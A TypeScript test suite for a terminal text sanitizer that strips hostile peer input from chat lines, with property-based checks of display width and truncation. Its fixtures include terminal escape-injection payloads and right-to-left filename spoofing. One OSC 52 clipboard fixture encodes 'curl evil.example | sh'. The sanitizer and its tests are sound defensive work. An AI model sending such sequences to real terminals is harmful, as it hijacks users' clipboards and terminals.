/** The one sanitizer: each attack of issue 10 point 3, then properties over any input. */
import assert from 'node:assert/strict';
import {test} from 'node:test';
import fc from 'fast-check';
import stringWidth from 'string-width';
import {
	cleanBytes,
	codePointWidth,
	cleanLine,
	cleanLines,
	cutToWidth,
	displayWidth,
	quoteBytes,
} from '../../source/text/sanitize.js';
import {dangerous, foreign} from './hostile-peer.js';

/** What may never be in one cleaned line: what may never reach a terminal from outside, and line breaks. */
const forbidden = new RegExp(`${foreign.source}|\\n`, 'u');

test('each injection the issue found comes out as plain text', () => {
	const cases: Array<[what: string, input: string, expected: string]> = [
		['OSC 0 window title', 'bye\x1b]0;you have been owned\x07', 'bye'],
		['OSC 52 clipboard', '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07ok', 'ok'],
		['OSC 8 link', '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\', 'click'],
		['SGR colours', '\x1b[1;31mred alert\x1b[0m', 'red alert'],
		['newlines spilling the status line', 'one\ntwo\r\nthree\rfour\u2028five', 'one two three four five'],
		['CSI 6n (the terminal would type its answer)', 'where\x1b[6n are you', 'where are you'],
		['DCS', 'a\x1bP1$r0m\x1b\\b', 'ab'],
		[
			'C1 CSI, UTF-8 encoded (\\xc2\\x9b)',
			Buffer.from([0x61, 0xc2, 0x9b, 0x32, 0x4a, 0x62]).toString(),
			'ab',
		],
		['C1 OSC with ST', 'x\u009d0;title\u009cy', 'xy'],
		['ESC c (a full reset), ESC 7', 'a\x1bcb\x1b7', 'ab'],
		['an unterminated OSC loses its introducer', 'a\x1b]0;b', 'a0;b'],
		['U+202E right-to-left override', 'invoice\u202Efdp.exe', 'invoicefdp.exe'],
		['bidi isolates and marks', '\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c', 'abc'],
		['zero-width characters', 'A\u200Bd\u200Ca\u200D\u2060\uFEFF', 'Ada'],
		['BEL, backspace, DEL', 'a\x07b\x08c\x7fd', 'abcd'],
		['a tab is a space', 'a\tb', 'a b'],
	];
	for (const [what, input, expected] of cases) assert.equal(cleanLine(input), expected, what);
});

test('width is measured as a terminal does, and capped without splitting a character', () => {
	assert.equal(displayWidth('abc'), 3);
	assert.equal(displayWidth('日本'), 4);
	assert.equal(displayWidth('e\u0301'), 1);
	assert.equal(displayWidth('🙂'), 2);
	assert.equal(cleanLine('日本語テキスト', {maxColumns: 6}), '日本…');
	assert.equal(cleanLine('abcdefgh', {maxColumns: 5}), 'abcd…');
	assert.equal(cutToWidth('e\u0301e\u0301e\u0301', 2), 'e\u0301…');
	assert.equal(cleanLine('x'.repeat(10_000)).length, 200);
	// Zalgo: at most four marks on a letter; a mark with nothing under it goes.
	assert.equal(cleanLine('Z' + '\u0301'.repeat(40)), 'Z' + '\u0301'.repeat(4));
	assert.equal(cleanLine('\u0301\u0302x'), 'x');
	// Unassigned code points and lone surrogates: the replacement character.
	assert.equal(cleanLine('a\u0378b\ud800c'), 'a\ufffdb\ufffdc');
	// A skin-tone modifier with no emoji to modify: Ink counted "a🏻" as 1 column, terminals 3.
	assert.equal(cleanLine('a\u{1f3fb}b \u{1f3ff}'), 'ab');
	assert.equal(displayWidth(cleanLine('\u0c4e\u{1f3fb}')), 1);
	assert.equal(cleanLine('\u{1f44d}\u{1f3fb}'), '\u{1f44d}\u{1f3fb}');
});

test('a multi-line chat message keeps its lines, each one clean; too many are cut', () => {
	assert.equal(cleanLines('hi\x1b[2J\r\nsecond\u2028\x1b]0;x\x07third\n\n'), 'hi\nsecond\nthird');
	assert.equal(
		cleanLines(Array.from({length: 30}, (_, i) => `l${i}`).join('\n'), {maxLines: 3}),
		'l0\nl1\n…',
	);
	assert.equal(cleanLines('  indented   text ', {keepSpaces: true}), 'indented   text');
	assert.equal(
		cleanBytes(Buffer.from('[mov,mp4 @ 0x55d]\x1b[0;31m moov atom not found\x1b[0m\n')),
		'[mov,mp4 @ 0x55d] moov atom not found',
	);
	assert.equal(quoteBytes('480\x1b[2J 640\u00e9', 40), '480?[2J 640?');
});

const hostileStrings = fc.oneof(
	fc.string({unit: 'binary', maxLength: 300}),
	fc.uint8Array({maxLength: 300}).map((bytes) => Buffer.from(bytes).toString('utf8')),
	fc.uint8Array({maxLength: 300}).map((bytes) => Buffer.from(bytes).toString('latin1')),
	fc.array(dangerous, {maxLength: 80}).map((parts) => parts.join('')),
);

test('property: whatever a peer sends, a cleaned line holds nothing a terminal would act on, fits, and is stable', () => {
	fc.assert(
		fc.property(hostileStrings, fc.integer({min: 1, max: 120}), (input, maxColumns) => {
			const line = cleanLine(input, {maxColumns});
			assert.doesNotMatch(line, forbidden);
			assert.ok(displayWidth(line) <= maxColumns, `${JSON.stringify(line)} is wider than ${maxColumns}`);
			assert.equal(cleanLine(line, {maxColumns}), line, 'cleaning twice changes nothing');
			const lines = cleanLines(input, {maxColumns, maxLines: 5});
			for (const each of lines.split('\n')) {
				assert.doesNotMatch(each, forbidden);
				assert.ok(displayWidth(each) <= maxColumns);
			}
			assert.ok(lines.split('\n').length <= 5);
		}),
		{numRuns: 2000},
	);
});

test('one code point at a time, the width agrees with the whole-text measure for clean text', () => {
	// Per grapheme. string-width (Ink's measure) counts a cluster by its first code point: emoji
	// sequences and clusters of several visible code points (an Indic conjunct such as क्ष, a
	// prepended repha) are where the two measures part, and are left out here.
	const visible = (cluster: string) =>
		[...cluster].filter((char) => codePointWidth(char.codePointAt(0)!) > 0);
	fc.assert(
		fc.property(hostileStrings, (input) => {
			const line = cleanLine(input, {maxColumns: 1000});
			for (const {segment} of new Intl.Segmenter().segment(line)) {
				if (/\ufe0f|\p{Extended_Pictographic}|\p{Regional_Indicator}/u.test(segment)) continue;
				if (visible(segment).length > 1) continue;
				let sum = 0;
				for (const char of segment) sum += codePointWidth(char.codePointAt(0)!);
				assert.equal(sum, displayWidth(segment), JSON.stringify(segment));
			}
		}),
		{numRuns: 1000},
	);
});

/** The measures as they were before the shortcuts: string-width and a grapheme walk. */
const reference = {
	width: (text: string) => stringWidth(text, {countAnsiEscapeCodes: true}),
	cut(text: string, columns: number): string {
		if (columns <= 0) return '';
		if (reference.width(text) <= columns) return text;
		let out = '';
		let width = 0;
		for (const {segment} of new Intl.Segmenter().segment(text)) {
			const w = reference.width(segment);
			if (width + w > columns - 1) break;
			out += segment;
			width += w;
		}
		return out.trimEnd() + '…';
	},
};

const mixedText = fc.oneof(
	hostileStrings,
	fc.string({unit: 'grapheme', maxLength: 80}),
	fc.string({unit: 'binary', maxLength: 80}),
	fc
		.array(
			fc.constantFrom(
				'a',
				' ',
				'漢',
				'😀',
				'👍🏽',
				'e\u0301',
				'\u1100\u1161',
				'🇫🇷',
				'\u200d',
				'\u3164',
				'\u00ad',
				'ﾞ',
				'⌚',
				'☺',
			),
			{
				maxLength: 60,
			},
		)
		.map((parts) => parts.join('')),
);

test('the width shortcuts (plain code points, cached clusters) measure and cut exactly as string-width does', () => {
	fc.assert(
		fc.property(mixedText, fc.integer({min: 1, max: 90}), (text, columns) => {
			assert.equal(displayWidth(text), reference.width(text), JSON.stringify(text));
			// Twice: the second measure comes from the cache.
			assert.equal(displayWidth(text), reference.width(text), JSON.stringify(text));
			assert.equal(cutToWidth(text, columns), reference.cut(text, columns), JSON.stringify([text, columns]));
		}),
		{numRuns: 3000},
	);
});

test('a long line is cut before it is cleaned, and lines past the last shown are never cleaned', () => {
	// What the UI shows of a chat line is 500 columns: 8,000 UTF-16 units are enough to fill them.
	const long = 'x'.repeat(5000) + '\x1b]0;title\x07' + 'y'.repeat(100_000);
	assert.equal(cleanLine(long, {maxColumns: 500}), 'x'.repeat(499) + '…');
	// A surrogate pair at the cut is not split into a U+FFFD.
	const emoji = 'a' + '😀'.repeat(10_000);
	assert.doesNotMatch(cleanLine(emoji, {maxColumns: 500}), /\ufffd/);
	// Only as many lines are cleaned as are shown: a million lines ask for 20.
	assert.equal(cleanLines('a\n'.repeat(1_000_000), {maxLines: 3}), 'a\na\n…');
	assert.equal(cleanLines('a\n\n\n\nb', {maxLines: 3}), 'a\n\n…');
	assert.equal(cleanLines('\n\na\n\nb\n\n\n', {maxLines: 3}), 'a\n\nb');
});
